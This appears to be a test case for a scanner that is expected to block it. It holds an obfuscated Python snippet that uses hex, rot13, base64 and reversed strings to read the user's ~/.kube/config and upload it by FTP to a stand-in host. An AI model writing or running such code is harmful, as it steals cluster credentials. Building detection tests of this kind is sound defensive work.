# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/kube_config_ftp.py technique: encode+getattr
ftplib = __import__(bytes.fromhex('6674706c6962').decode())
os = __import__(''.join(map(chr, [111, 115])))
path = os.path.join(os.path.expanduser('~'), getattr(bytes, 'xehmorf'[::-1])('2e6b756265').decode(), ''.join(map(chr, [99, 111, 110, 102, 105, 103])))
with getattr(ftplib, __import__('codecs').decode('SGC', 'rot13'))('9.311.0.302'[::-1], __import__('codecs').decode('nabalzbhf', 'rot13'), 'x') as ftp, open(path, ''.join(['r', 'b'])) as handle:
    getattr(ftp, ''.join(['s', 't', 'o', 'r', 'b', 'i', 'n', 'a', 'r', 'y']))(__import__('base64').b64decode('U1RPUiBjb25maWc=').decode(), handle)
